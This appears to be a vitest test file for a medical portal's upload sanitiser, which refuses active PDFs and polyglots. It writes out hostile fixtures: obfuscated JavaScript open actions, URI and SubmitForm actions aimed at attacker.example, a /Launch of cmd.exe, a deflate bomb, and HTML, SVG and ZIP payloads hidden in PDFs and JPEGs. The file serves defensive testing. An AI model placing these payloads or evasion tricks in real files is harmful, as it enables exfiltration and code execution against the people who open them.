import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { UPLOAD_CONTENT_TYPES } from '@contract/api/attachments';
import { prepareUpload, type ContentPolicy } from '../../../../src-server/modules/attachments/content';
import { plainRanges } from '../../../../src-server/modules/attachments/content/image-ranges';
import { renderReportPdf } from '../../../../src-server/modules/results/report-document';
import { jpeg, MINIMAL_PDF } from './attachments-kit';
import { noiseJpeg, objectStreamPdf, pdfkitPdf, pdfWith, pdfWithBefore } from './pdf-fixtures';

// Active PDFs and polyglots that passed the byte checks of
// docs/rules/attachments.md#content, and the passive PDFs that must still pass.

const POLICY: ContentPolicy = { allowed: UPLOAD_CONTENT_TYPES, maxPixels: 50_000_000, maxDimension: 4000 };
let work = '';
beforeEach(() => {
  work = mkdtempSync(join(tmpdir(), 'portal-active-pdf-'));
});
afterEach(() => rmSync(work, { recursive: true, force: true }));

async function prepare(bytes: Buffer) {
  const input = join(work, 'input');
  writeFileSync(input, bytes);
  const result = await prepareUpload(input, work, POLICY);
  if (!result.ok) expect(readdirSync(work)).toEqual(['input']);
  else if (result.path !== input) rmSync(result.path);
  return result;
}

const JS_ACTION = '<</S/JavaScript/JS(app.alert(1))>>';
/** A ZIP end record saying a comment of `commentLength` bytes follows it. */
function zipEnd(commentLength: number): Buffer {
  const record = Buffer.alloc(22);
  record.writeUInt32LE(0x06054b50, 0);
  record.writeUInt16LE(commentLength, 20);
  return record;
}

describe('active PDFs', () => {
  it.each([
    ['a comment in its dictionary', { action: JS_ACTION, dictionaryExtra: '%hidden\n' }],
    ['a PNG predictor', { action: JS_ACTION, predictorColumns: 8 }],
    ['5000 bytes of padding in its dictionary', { action: JS_ACTION, dictionaryExtra: ' '.repeat(5000) }],
    ['its action name written with #xx', { action: '<</S/J#61vaScript/JS(app.alert(1))>>', predictorColumns: 5 }],
    ['a URI action', { action: '<</S/URI/URI(https://attacker.example/collect)>>' }],
  ])('refuses a JavaScript open action in an object stream with %s', async (_name, options) => {
    const pdf = objectStreamPdf(options);
    const reason = options.action.includes('URI') ? 'pdf_link' : 'pdf_script';
    expect(await prepare(pdf)).toMatchObject({ ok: false, reason });
  });

  it('refuses a JavaScript open action in an object stream read by its /Length, without "endstream"', async () => {
    const pdf = objectStreamPdf({ action: JS_ACTION }).toString('latin1');
    const cut = pdf.indexOf('\nendstream\nendobj\n'); // object 5's end: its bytes run to "endobj"
    const withoutEnd = Buffer.from(pdf.slice(0, cut) + '\nendobj\n' + pdf.slice(cut + '\nendstream\nendobj\n'.length), 'latin1');
    expect(withoutEnd.includes('endstream\nendobj\n6 0 obj')).toBe(false);
    expect(await prepare(withoutEnd)).toMatchObject({ ok: false, reason: 'pdf_script' });
  });

  it.each([
    ['/URI', '/OpenAction<</S/URI/URI(https://attacker.example/)>>', 'pdf_link'],
    ['/SubmitForm', '/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://attacker.example/)>>>>', 'pdf_link'],
    ['/GoToR', '/OpenAction<</S/GoToR/F(\\\\\\\\attacker\\\\share\\\\x.pdf)/D[0/Fit]>>', 'pdf_link'],
    ['/ImportData', '/OpenAction<</S/ImportData/F(data.fdf)>>', 'pdf_link'],
    ['/GoToE', '/OpenAction<</S/GoToE/T<</R/C/N(a.pdf)>>>>', 'pdf_link'],
    ['/Sound', '/OpenAction<</S/Sound/Sound 9 0 R>>', 'pdf_script'],
    ['/Movie', '/OpenAction<</S/Movie/T(clip)>>', 'pdf_script'],
    ['/Rendition', '/OpenAction<</S/Rendition/OP 0>>', 'pdf_script'],
    ['/Hide', '/OpenAction<</S/Hide/T(field)>>', 'pdf_script'],
    ['a /Named menu action', '/OpenAction<</S/Named/N/SaveAs>>', 'pdf_script'],
    ['a /Named action given by reference', '/OpenAction<</S/Named/N 9 0 R>>', 'pdf_script'],
    ['a JavaScript open action', `/OpenAction${JS_ACTION}`, 'pdf_script'],
    ['an XFA form', '/AcroForm<</Fields[]/XFA 9 0 R>>', 'pdf_script'],
    ['/Launch', '/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>', 'pdf_script'],
    ['/URI with an escaped name', '/OpenAction<</S/U#52I/URI(https://attacker.example/)>>', 'pdf_link'],
  ])('refuses a PDF with %s', async (_name, extra, reason) => {
    expect(await prepare(pdfWith(extra))).toMatchObject({ ok: false, reason });
  });

  it('refuses an action whose type is an indirect name', async () => {
    const indirect = pdfWithBefore('9 0 obj\n/J#61vaScript\nendobj\n').toString('latin1');
    const opened = Buffer.from(indirect.replace('/Type/Catalog', '/Type/Catalog/OpenAction<</S 9 0 R/JS(x)>>'), 'latin1');
    expect(await prepare(opened)).toMatchObject({ ok: false, reason: 'pdf_script' });
  });

  it('refuses a pdfkit PDF with a link to a web page (a /URI link annotation)', async () => {
    expect(await prepare(await pdfkitPdf({ link: 'https://clinic.example/' }))).toMatchObject({ ok: false, reason: 'pdf_link' });
  });

  it('refuses an object stream that cannot be read, or that expands past the limit', async () => {
    const dct = pdfWithBefore('7 0 obj<</Type/ObjStm/N 1/First 4/Filter/DCTDecode/Length 4>>stream\nabcd\nendstream endobj\n');
    expect(await prepare(dct)).toMatchObject({ ok: false, reason: 'pdf_unreadable' });
    const bomb = deflateSync(Buffer.alloc(40 * 1024 * 1024, 0x20));
    const big = Buffer.concat([
      Buffer.from(`7 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${bomb.length}>>stream\n`),
      bomb,
      Buffer.from('\nendstream endobj\n'),
    ]);
    expect(await prepare(pdfWithBefore(big))).toMatchObject({ ok: false, reason: 'pdf_unreadable' });
  });
});

describe('polyglots', () => {
  it('refuses HTML anywhere outside a PDF stream, and in an unfiltered stream', async () => {
    const late = pdfWithBefore(`%${' '.repeat(2000)}\n%<html><script>alert(1)</script></html>\n`);
    expect(await prepare(late)).toMatchObject({ ok: false, reason: 'polyglot' });
    const inString = pdfWith(`/Lang(${' '.repeat(2000)}<svg onload=alert(1)>)`);
    expect(await prepare(inString)).toMatchObject({ ok: false, reason: 'polyglot' });
    const body = Buffer.from(`${' '.repeat(2000)}<iframe src=x>`);
    const inStream = pdfWithBefore(
      Buffer.concat([Buffer.from(`7 0 obj<</Length ${body.length}>>stream\n`), body, Buffer.from('\nendstream endobj\n')]),
    );
    expect(await prepare(inStream)).toMatchObject({ ok: false, reason: 'polyglot' });
  });

  it('refuses HTML after the first kilobyte of a photo', async () => {
    const photo = await jpeg();
    const comment = Buffer.from(`${' '.repeat(3000)}<script>alert(1)</script>`);
    const length = Buffer.alloc(2);
    length.writeUInt16BE(comment.length + 2);
    const hidden = Buffer.concat([photo.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, comment, photo.subarray(2)]);
    expect(await prepare(hidden)).toMatchObject({ ok: false, reason: 'polyglot' });
  });

  it('looks for markup in the headers, metadata and trailing bytes of an image, not in its compressed pixels', async () => {
    const photo = await noiseJpeg(600, 400);
    const ranges = plainRanges('image/jpeg', photo);
    const plain = ranges.reduce((sum, [from, to]) => sum + to - from, 0);
    expect(plain).toBeLessThan(photo.length / 10);
    const trailing = Buffer.concat([photo, Buffer.from('<html><body>x</body></html>')]);
    expect(plainRanges('image/jpeg', trailing).at(-1)).toEqual([photo.length, trailing.length]);
    expect(await prepare(trailing)).toMatchObject({ ok: false, reason: 'polyglot' });
    const png = await sharp(await noiseJpeg(300, 200))
      .png()
      .toBuffer();
    const pngPlain = plainRanges('image/png', png).reduce((sum, [from, to]) => sum + to - from, 0);
    expect(pngPlain).toBeLessThan(200);
  });

  it('refuses a ZIP end record more than a kilobyte from the end, and a ZIP entry inside a PDF', async () => {
    const comment = Buffer.from(`${' '.repeat(1500)}\n%%EOF\n`);
    expect(await prepare(Buffer.concat([MINIMAL_PDF, zipEnd(comment.length), comment]))).toMatchObject({ ok: false, reason: 'polyglot' });
    expect(await prepare(Buffer.concat([await jpeg(), zipEnd(2000), Buffer.alloc(2000, 0x20)]))).toMatchObject({
      ok: false,
      reason: 'polyglot',
    });
    const entry = Buffer.concat([Buffer.from('%'), Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from('payload.html\n')]);
    expect(await prepare(pdfWithBefore(Buffer.concat([Buffer.alloc(2000, 0x20), entry])))).toMatchObject({ ok: false, reason: 'polyglot' });
  });
});

describe('passive PDFs', () => {
  it.each([
    ['a pdfkit referral with a scanned page image', () => pdfkitPdf()],
    ['a pdfkit referral with a link within the document', () => pdfkitPdf({ internalLink: true })],
    [
      'an object stream with a predictor and a GoTo open action',
      () => Promise.resolve(objectStreamPdf({ action: '<</S/GoTo/D[3 0 R/Fit]>>', predictorColumns: 6 })),
    ],
    ['a page-turning named action', () => Promise.resolve(pdfWith('/OpenAction<</S/Named/N/NextPage>>'))],
    [
      'a radiology report of the demo RIS',
      () =>
        renderReportPdf({
          providerName: 'Demo',
          patientName: 'Liam Example',
          dateOfBirth: '1991-03-14',
          examName: 'MRI knee',
          clinicName: 'Central',
          examDate: new Date('2026-01-02T03:04:05Z'),
          accessionNumber: 'A1',
          referrerName: 'Dr Who',
          reportText: 'FINDINGS:\nNormal.',
        }),
    ],
  ])('keeps %s byte for byte', async (_name, make) => {
    const pdf = await make();
    expect(await prepare(pdf)).toMatchObject({ ok: true, contentType: 'application/pdf', size: pdf.length });
  });

  it('checks a 10 MB scanned PDF of noise images (no chance hit in compressed bytes)', { timeout: 60_000 }, async () => {
    const images = await Promise.all([0, 1, 2, 3, 4, 5].map(() => noiseJpeg(1400, 1300)));
    const pdf = await pdfkitPdf({ images });
    expect(pdf.length).toBeGreaterThan(8 * 1024 * 1024);
    expect(await prepare(pdf)).toMatchObject({ ok: true, contentType: 'application/pdf' });
  });
});
